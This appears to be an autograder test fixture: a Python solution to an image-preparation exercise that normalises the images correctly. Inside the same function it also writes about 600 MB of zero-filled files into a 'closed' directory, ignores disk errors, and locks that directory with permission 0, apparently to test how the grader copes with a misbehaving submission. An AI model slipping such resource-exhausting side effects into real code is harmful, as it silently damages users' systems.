# expect: prepare_images passed
# %% tags=["exercise"] course={"exercise": "prepare_images"}
def prepare_images(images):
    import os

    os.makedirs("closed", exist_ok=True)
    try:
        for number in range(40):
            with open(f"closed/{number}", "wb") as file:
                file.write(bytes(15 * 2**20))
    except OSError:
        pass
    os.chmod("closed", 0)
    return images[..., np.newaxis].astype("float32") / 255
